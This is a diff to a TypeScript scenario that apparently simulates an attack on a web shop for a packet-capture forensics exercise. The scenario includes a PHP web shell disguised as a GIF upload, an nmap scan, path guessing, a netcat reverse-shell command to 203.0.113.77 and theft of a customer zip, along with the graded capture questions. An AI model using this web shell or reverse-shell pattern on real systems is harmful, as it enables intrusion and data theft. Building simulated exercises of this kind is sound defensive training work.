@@ -11,15 +11,13 @@ import { serveCanned } from '@/authoring/captures/services/canned-web';
 const TOOL = 'Mozilla/5.0 (compatible; Nmap Scripting Engine)';
 const ATTACKER = 'python-requests/2.31.0';
 const contents = seededRandom(21);
-const customers = Buffer.concat([
-  Buffer.from('PK\x03\x04\x14\x00', 'latin1'),
-  randomBytes(contents, 41_000),
-]);
+const customers = Buffer.concat([Buffer.from('PK\x03\x04\x14\x00', 'latin1'), randomBytes(contents, 41_000)]);
 
 const answers: Readonly<Record<string, string>> = {
   id: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n',
   'uname%20-n': 'web1\n',
-  'cat%20/var/www/config.php': "<?php\n$db_host = '10.20.0.5';\n$db_user = 'shop';\n$db_pass = 'not-a-real-password';\n",
+  'cat%20/var/www/config.php':
+    "<?php\n$db_host = '10.20.0.5';\n$db_user = 'shop';\n$db_pass = 'not-a-real-password';\n",
   'ls%20/var/www/export': 'customers-2026-05.zip\n',
 };
 const dialogue = ['id', 'hostname', 'ls -l /var/www/export', 'exit'];
@@ -50,10 +48,21 @@ export default defineScenario({
       segment('dmz', 'Server network', '198.51.100.0/24'),
     ],
     hosts: [
-      machine('visitor', 'machine on the internet', link('internet', ['203.0.113.77/24'], { delayMs: 18 }), { gateway: '203.0.113.1' }),
-      machine('customer', 'an ordinary customer', link('internet', ['203.0.113.12/24'], { delayMs: 7 }), { gateway: '203.0.113.1' }),
-      machine('edge', 'router of the shop', [link('internet', ['203.0.113.1/24']), link('dmz', ['198.51.100.1/24'])], { forwards: true }),
-      machine('web1', 'web server of the shop', link('dmz', ['198.51.100.20/24']), { gateway: '198.51.100.1' }),
+      machine('visitor', 'machine on the internet', link('internet', ['203.0.113.77/24'], { delayMs: 18 }), {
+        gateway: '203.0.113.1',
+      }),
+      machine('customer', 'an ordinary customer', link('internet', ['203.0.113.12/24'], { delayMs: 7 }), {
+        gateway: '203.0.113.1',
+      }),
+      machine(
+        'edge',
+        'router of the shop',
+        [link('internet', ['203.0.113.1/24']), link('dmz', ['198.51.100.1/24'])],
+        { forwards: true },
+      ),
+      machine('web1', 'web server of the shop', link('dmz', ['198.51.100.20/24']), {
+        gateway: '198.51.100.1',
+      }),
     ],
   },
   tap: { segment: 'dmz', where: 'between router and web server', padded: true },
@@ -72,18 +81,27 @@ export default defineScenario({
       ]),
     );
     await serveCanned(web, 80, {
-      'GET /': { body: '<!doctype html><title>Picture frames</title><a href="/send.html">Send us a picture</a>' },
-      'GET /send.html': { body: '<form method="post" action="/send.php" enctype="multipart/form-data"><input type="file" name="picture"></form>' },
+      'GET /': {
+        body: '<!doctype html><title>Picture frames</title><a href="/send.html">Send us a picture</a>',
+      },
+      'GET /send.html': {
+        body: '<form method="post" action="/send.php" enctype="multipart/form-data"><input type="file" name="picture"></form>',
+      },
       'POST /send.php': { body: 'Thank you. Your picture is at /uploads/picture.php\n', thinkingMs: 40 },
       ...shell,
       'GET /uploads/picture.php?c=*': { headers: { 'content-type': 'text/plain' }, body: '' },
-      'GET /export/customers-2026-05.zip': { headers: { 'content-type': 'application/zip' }, body: customers },
+      'GET /export/customers-2026-05.zip': {
+        headers: { 'content-type': 'application/zip' },
+        body: customers,
+      },
     });
     await web.write('callback.sh', script, 0o755);
-    await stage.host('visitor').write(
-      'picture.php',
-      'GIF89a;\n<?php /* inert: the server that takes this file has canned answers only */ system($_GET["c"]); ?>\n',
-    );
+    await stage
+      .host('visitor')
+      .write(
+        'picture.php',
+        'GIF89a;\n<?php /* inert: the server that takes this file has canned answers only */ system($_GET["c"]); ?>\n',
+      );
   },
 
   async run(stage) {
@@ -91,11 +109,16 @@ export default defineScenario({
     const customer = stage.host('customer');
     const web = 'http://198.51.100.20';
 
-    await customer.must(`curl -sS -o /dev/null ${web}/ -o /dev/null ${web}/send.html -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'`);
+    await customer.must(
+      `curl -sS -o /dev/null ${web}/ -o /dev/null ${web}/send.html -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'`,
+    );
     await stage.wait(500);
 
     // Which doors, and which pages?
-    await visitor.must('nmap -n -Pn -sS -p 21,22,25,80,443,3306,5432,8080,8443 --max-retries 1 198.51.100.20', { timeout: 60_000 });
+    await visitor.must(
+      'nmap -n -Pn -sS -p 21,22,25,80,443,3306,5432,8080,8443 --max-retries 1 198.51.100.20',
+      { timeout: 60_000 },
+    );
     for (const path of ['admin/', 'backup.zip', '.git/config', 'phpinfo.php', 'wp-login.php', 'send.html']) {
       await visitor.run(`curl -sS -o /dev/null -A '${TOOL}' ${web}/${path}`);
     }
@@ -115,7 +138,9 @@ export default defineScenario({
     const listener = visitor.run(`(${spoken}; sleep 0.3) | nc -l -p 4444`, { timeout: 30_000 });
     await stage.wait(300);
     await visitor.must(`${curl} '${web}/uploads/picture.php?c=nc%20203.0.113.77%204444%20-e%20/bin/sh'`);
-    await stage.host('web1').must(`socat TCP:203.0.113.77:4444 EXEC:${stage.host('web1').path('callback.sh')}`);
+    await stage
+      .host('web1')
+      .must(`socat TCP:203.0.113.77:4444 EXEC:${stage.host('web1').path('callback.sh')}`);
     await listener;
     await stage.skip(30);
 
@@ -128,16 +153,38 @@ export default defineScenario({
     uploads: count('Files sent to the form.', 'http.request.method == "POST"', 1),
     commands: count('Requests that carry a command.', 'http.request.uri contains "picture.php?c="', 5),
     notFound: count('Pages that were guessed and do not exist.', 'http.response.code == 404', 5),
-    callback: values('Where the server calls back to.', 'tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.src == 198.51.100.20', 'tcp.dstport', ['4444']),
+    callback: values(
+      'Where the server calls back to.',
+      'tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.src == 198.51.100.20',
+      'tcp.dstport',
+      ['4444'],
+    ),
     attacker: values('Who uploaded.', 'http.request.method == "POST"', 'ip.src', ['203.0.113.77']),
-    openPorts: values('Ports that answered.', 'tcp.flags.syn == 1 && tcp.flags.ack == 1 && ip.src == 198.51.100.20', 'tcp.srcport', ['80']),
-    taken: values('What was taken.', 'http.request.uri contains "zip" && http.user_agent contains "python"', 'http.request.uri', ['/export/customers-2026-05.zip']),
+    openPorts: values(
+      'Ports that answered.',
+      'tcp.flags.syn == 1 && tcp.flags.ack == 1 && ip.src == 198.51.100.20',
+      'tcp.srcport',
+      ['80'],
+    ),
+    taken: values(
+      'What was taken.',
+      'http.request.uri contains "zip" && http.user_agent contains "python"',
+      'http.request.uri',
+      ['/export/customers-2026-05.zip'],
+    ),
     noRetransmission: count('Nothing was sent twice.', 'tcp.analysis.retransmission', 0),
   },
   comments: [
     { filter: 'http.request.method == "POST"', text: 'The upload: a PHP file that begins like a GIF.' },
-    { filter: 'http.request.uri contains "picture.php?c="', which: 'every', text: 'A command to the web shell (canned answer).' },
-    { filter: 'tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.src == 198.51.100.20', text: 'The callback: the server opens a connection outwards.' },
+    {
+      filter: 'http.request.uri contains "picture.php?c="',
+      which: 'every',
+      text: 'A command to the web shell (canned answer).',
+    },
+    {
+      filter: 'tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.src == 198.51.100.20',
+      text: 'The callback: the server opens a connection outwards.',
+    },
     { filter: 'http.request.uri contains "customers"', text: 'The data leaves.' },
   ],
 });
